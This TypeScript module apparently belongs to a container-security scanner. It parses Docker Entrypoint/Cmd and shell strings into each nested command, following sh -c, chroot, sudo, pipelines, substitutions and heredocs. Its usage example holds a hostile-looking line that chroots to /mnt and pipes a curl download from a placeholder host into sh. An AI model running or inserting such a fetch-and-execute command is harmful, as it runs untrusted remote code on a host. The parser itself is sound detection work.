// Splits container commands (Entrypoint+Cmd, exec, shell text) into each command sh would run: it follows
// `sh -c`, chroot and other wrappers, pipelines, lists, $(...), backticks and here-docs, recursively.
import { lex, type Token, type WordToken } from './lex.js';
import { parseDockerCli } from './docker-cli.js';

export interface Redirect {
  readonly op: string;
  readonly target: string;
  /** Here-document body. */
  readonly body?: string;
}

export type CommandOrigin = 'top' | 'sh-c' | 'substitution' | 'process-substitution' | 'eval' | 'heredoc' | 'decoded' | 'cron' |
  'docker-run' | 'env' | 'embedded';

/** One simple command as sh would execute it. */
export interface ShellCommand {
  /** Words after wrappers (sudo, nohup, chroot DIR, env, timeout, busybox, xargs ...) and assignments. */
  readonly argv: readonly string[];
  /** Words as written. */
  readonly rawArgv: readonly string[];
  readonly assignments: readonly string[];
  readonly wrappers: readonly string[];
  readonly redirects: readonly Redirect[];
  /** Pipeline id (unique within one split) and position in it. */
  readonly pipeline: number;
  readonly stage: number;
  readonly pipelineLength: number;
  readonly depth: number;
  readonly origin: CommandOrigin;
  /** Index (in the same result array) of the command this one was nested in. */
  readonly parent?: number;
  /** Root directory from an enclosing `chroot DIR` (inherited by nested commands). */
  readonly chroot?: string;
  /** Field path the command came from, e.g. `Config.Cmd[2]`. */
  readonly source: string;
  /** Came out of a decoded payload (base64, hex, ...), at any depth. */
  readonly decoded?: boolean;
  /** The program name (argv[0]) was written with $'...' quoting. */
  readonly ansiC?: boolean;
}

export interface SplitOptions {
  readonly source?: string;
  readonly depth?: number;
  readonly chroot?: string;
  readonly origin?: CommandOrigin;
  readonly decoded?: boolean;
  readonly parent?: number;
}

export const MAX_DEPTH = 8;
export const MAX_COMMANDS = 2000;
export const MAX_SCRIPT_CHARS = 256 * 1024;

export const SHELLS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh', 'mksh', 'busybox-sh', 'rbash']);

/** Lower-cased basename of a command word: `/usr/bin/Bash` -> `bash`. */
export function progName(word: string | undefined): string {
  if (!word) return '';
  const base = word.split('/').pop() ?? word;
  return base.toLowerCase();
}

interface Ctx { out: ShellCommand[]; nextPipeline: number }

const KEYWORDS_DROP = new Set(['if', 'then', 'else', 'elif', 'do', 'while', 'until', '!', '{', '}', 'time', 'fi', 'done', 'esac']);

function expandBraces(w: WordToken): string[] {
  if (!w.quoted && /^\{[^{}\s]*,[^{}\s]*\}$/.test(w.value)) return w.value.slice(1, -1).split(',');
  return [w.value];
}

/** Strip wrappers that run another command (sudo, nohup, chroot DIR, ...). */
function unwrap(words: string[]): { argv: string[]; assignments: string[]; wrappers: string[]; chroot?: string } {
  const assignments: string[] = [];
  const wrappers: string[] = [];
  let chroot: string | undefined;
  let w = [...words];
  const skipOpts = (from: number, withArg: RegExp = /^$/): number => {
    let k = from;
    while (k < w.length && (w[k] as string).startsWith('-') && w[k] !== '-') {
      if (w[k] === '--') return k + 1;
      if (withArg.test(w[k] as string)) k++;
      k++;
    }
    return k;
  };
  for (let guard = 0; guard < 16 && w.length > 0; guard++) {
    while (w.length > 0 && /^[A-Za-z_][A-Za-z0-9_]*=/.test(w[0] as string)) assignments.push(w.shift() as string);
    const p = progName(w[0]);
    let k = -1;
    if (p === 'sudo' || p === 'doas') k = skipOpts(1, /^-[ugCchpr]$/);
    else if (p === 'nohup' || p === 'command' || p === 'builtin' || p === 'setsid' || p === 'stdbuf' || p === 'time') k = skipOpts(1);
    else if (p === 'exec') k = skipOpts(1, /^-a$/);
    else if (p === 'nice' || p === 'ionice' || p === 'runuser' || p === 'taskset' || p === 'watch') k = skipOpts(1, /^-[ncpuN]$/);
    else if (p === 'timeout') { k = skipOpts(1, /^-[sk]$/); k++; }
    else if (p === 'env') { k = skipOpts(1, /^-[uCS]$/); while (k < w.length && (w[k] as string).includes('=')) assignments.push(w[k++] as string); }
    else if (p === 'busybox' && w.length > 1 && !(w[1] as string).startsWith('-')) k = 1;
    else if (p === 'nsenter' || p === 'unshare') k = skipOpts(1, /^(-[tSGw]|--target|--setuid|--setgid)$/);
    else if (p === 'xargs') k = skipOpts(1, /^-[nILPsdaE]$/);
    else if (p === 'chroot') {
      k = skipOpts(1);
      chroot = w[k]; k++;
      wrappers.push('chroot');
      w = w.slice(k);
      if (w.length === 0) w = ['/bin/sh'];
      continue;
    }
    if (k < 0) break;
    wrappers.push(p);
    w = w.slice(k);
  }
  const result: { argv: string[]; assignments: string[]; wrappers: string[]; chroot?: string } = { argv: w, assignments, wrappers };
  if (chroot !== undefined) result.chroot = chroot;
  return result;
}

/** The script argument of `sh -c SCRIPT` / `su -c SCRIPT` / `eval ARGS`, if any. */
export function inlineScript(argv: readonly string[]): { script: string; origin: CommandOrigin } | undefined {
  const p = progName(argv[0]);
  if (SHELLS.has(p) || p === 'su') {
    for (let k = 1; k < argv.length; k++) {
      const a = argv[k] as string;
      if (a === '--command' || /^-[a-zA-Z]*c[a-zA-Z]*$/.test(a)) {
        // sh -c SCRIPT: the first non-option word after the flag is the script
        let j = k + 1;
        while (j < argv.length && /^-[a-zA-Z]+$/.test(argv[j] as string) && SHELLS.has(p)) j++;
        if (j < argv.length) return { script: argv[j] as string, origin: 'sh-c' };
        return undefined;
      }
      if (!a.startsWith('-') && p !== 'su') return undefined;
    }
  }
  if (p === 'eval' && argv.length > 1) return { script: argv.slice(1).join(' '), origin: 'eval' };
  return undefined;
}

function emit(ctx: Ctx, words: WordToken[], redirects: Redirect[], pipeline: number, stage: number, len: number,
  opts: SplitOptions, redirectSubs: WordToken[]): void {
  if (ctx.out.length >= MAX_COMMANDS) return;
  let raw = words.flatMap(expandBraces);
  while (raw.length > 0 && KEYWORDS_DROP.has(raw[0] as string)) raw = raw.slice(1);
  if (raw.length === 0 && redirects.length === 0) return;
  if (raw[0] === 'for' || raw[0] === 'case' || raw[0] === 'in') return;
  const u = unwrap(raw);
  const chroot = u.chroot ?? opts.chroot;
  const base: ShellCommand = {
    argv: u.argv, rawArgv: raw, assignments: u.assignments, wrappers: u.wrappers, redirects,
    pipeline, stage, pipelineLength: len, depth: opts.depth ?? 0, origin: opts.origin ?? 'top',
    source: opts.source ?? 'script',
    ...(opts.parent !== undefined ? { parent: opts.parent } : {}),
    ...(chroot !== undefined ? { chroot } : {}),
    ...(opts.decoded ? { decoded: true } : {}),
    ...(words.some((w) => w.ansiC && w.value === u.argv[0]) ? { ansiC: true } : {}),
  };
  const index = ctx.out.length;
  ctx.out.push(base);
  const depth = (opts.depth ?? 0) + 1;
  if (depth > MAX_DEPTH) return;
  const child = (origin: CommandOrigin): SplitOptions => ({
    source: base.source, depth, origin, parent: index, decoded: opts.decoded ?? false,
    ...(chroot !== undefined ? { chroot } : {}),
  });
  const inline = inlineScript(u.argv);
  if (inline) splitInto(ctx, inline.script, child(inline.origin));
  // `docker [-H tcp://x:2375] run|create|exec ... IMAGE CMD...`: the container command, as exec form (no chroot carried over).
  const dc = parseDockerCli(u.argv);
  if (dc && dc.command.length > 0) {
    const words: WordToken[] = dc.command.map((v) => ({ kind: 'word', value: v, subs: [], quoted: true, ansiC: false }));
    emit(ctx, words, [], ctx.nextPipeline++, 0, 1, { source: base.source, depth, origin: 'docker-run', parent: index, decoded: opts.decoded ?? false }, []);
  }
  for (const w of [...words, ...redirectSubs]) {
    for (const s of w.subs) splitInto(ctx, s.text, child(s.kind === 'proc' ? 'process-substitution' : 'substitution'));
  }
  for (const r of redirects) {
    if (r.body !== undefined && (SHELLS.has(progName(u.argv[0])) && !inline)) splitInto(ctx, r.body, child('heredoc'));
  }
}

function splitInto(ctx: Ctx, script: string, opts: SplitOptions): void {
  const tokens: Token[] = lex(script.length > MAX_SCRIPT_CHARS ? script.slice(0, MAX_SCRIPT_CHARS) : script);
  type Raw = { words: WordToken[]; redirects: Redirect[]; subs: WordToken[] };
  let pipeline: Raw[] = [];
  let cur: Raw = { words: [], redirects: [], subs: [] };
  const endCmd = () => { if (cur.words.length > 0 || cur.redirects.length > 0) pipeline.push(cur); cur = { words: [], redirects: [], subs: [] }; };
  const endPipeline = () => {
    endCmd();
    const id = ctx.nextPipeline++;
    pipeline.forEach((c, k) => emit(ctx, c.words, c.redirects, id, k, pipeline.length, opts, c.subs));
    pipeline = [];
  };
  for (let k = 0; k < tokens.length; k++) {
    const t = tokens[k] as Token;
    if (t.kind === 'word') { cur.words.push(t); continue; }
    if (t.value === '|' || t.value === '|&') { endCmd(); continue; }
    if (/[<>]/.test(t.value)) {
      const next = tokens[k + 1];
      if (t.body !== undefined || /^\d*<<-?$/.test(t.value)) {
        cur.redirects.push({ op: t.value, target: '', body: t.body ?? '' });
      } else if (next && next.kind === 'word') {
        cur.redirects.push({ op: t.value, target: next.value }); cur.subs.push(next); k++;
      }
      continue;
    }
    endPipeline();
  }
  endPipeline();
}

/** Split one shell script into commands. */
export function splitShell(script: string, opts: SplitOptions = {}): ShellCommand[] {
  const ctx: Ctx = { out: [], nextPipeline: 0 };
  splitInto(ctx, script, opts);
  return ctx.out;
}

/** Where each word of an argv came from, for evidence. */
export type WordSources = readonly string[];

/**
 * Split an exec-form argv (Entrypoint+Cmd, exec Cmd): the argv itself is one command (no shell parsing of its
 * words), and `sh -c` / wrapper scripts inside it are split recursively. A one-element argv holding spaces is
 * also read as shell text, since attackers send Cmd as a string and dockerd wraps it.
 */
export function splitArgv(argv: readonly string[], sources: WordSources = [], base: SplitOptions = {}): ShellCommand[] {
  const ctx: Ctx = { out: [], nextPipeline: 0 };
  if (argv.length === 0) return [];
  if (argv.length === 1 && /\s/.test(argv[0] as string)) {
    splitInto(ctx, argv[0] as string, { ...base, source: sources[0] ?? base.source ?? 'argv' });
    return ctx.out;
  }
  const words: WordToken[] = argv.map((v) => ({ kind: 'word', value: v, subs: [], quoted: true, ansiC: false }));
  const src = base.source ?? sources[0] ?? 'argv';
  // Point the evidence at the word carrying the inline script when there is one.
  const u = unwrap([...argv]);
  const inline = inlineScript(u.argv);
  const scriptIndex = inline ? argv.lastIndexOf(inline.script) : -1;
  const source = scriptIndex >= 0 ? (sources[scriptIndex] ?? src) : src;
  emit(ctx, words, [], ctx.nextPipeline++, 0, 1, { ...base, source }, []);
  return ctx.out;
}

/** Input accepted by splitCommands. */
export type CommandSource = string | readonly string[] | {
  readonly entrypoint?: string | readonly string[] | null;
  readonly cmd?: string | readonly string[] | null;
  readonly entrypointField?: string;
  readonly cmdField?: string;
};

const asArray = (v: string | readonly string[] | null | undefined): readonly string[] =>
  v == null ? [] : typeof v === 'string' ? [v] : v;

/**
 * Every shell command in a container's Entrypoint+Cmd, an exec argv, or a shell string.
 * @example splitCommands({ entrypoint: ['/bin/sh', '-c'], cmd: 'chroot /mnt sh -c "curl -s http://x.example.invalid/a|sh"' })
 */
export function splitCommands(input: CommandSource, opts: SplitOptions = {}): ShellCommand[] {
  if (typeof input === 'string') return splitShell(input, opts);
  if (Array.isArray(input)) return splitArgv(input as readonly string[], [], opts);
  const o = input as Exclude<CommandSource, string | readonly string[]>;
  let ep = asArray(o.entrypoint);
  const cmd = asArray(o.cmd);
  const ef = o.entrypointField ?? 'Config.Entrypoint';
  const cf = o.cmdField ?? 'Config.Cmd';
  // An Entrypoint sent as one string ("/bin/sh -c") arrives as one element; read its words as the shell would,
  // so the Cmd after it is still seen as the script it is meant to be.
  const epSources = ep.map((_, k) => `${ef}[${k}]`);
  if (ep.length === 1 && cmd.length > 0 && /\s/.test(ep[0] as string) && !/['"\\$`]/.test(ep[0] as string)) {
    ep = (ep[0] as string).trim().split(/\s+/);
    epSources.splice(0, 1, ...ep.map(() => `${ef}[0]`));
  }
  const sources = [...epSources, ...cmd.map((_, k) => `${cf}[${k}]`)];
  return splitArgv([...ep, ...cmd], sources, opts);
}
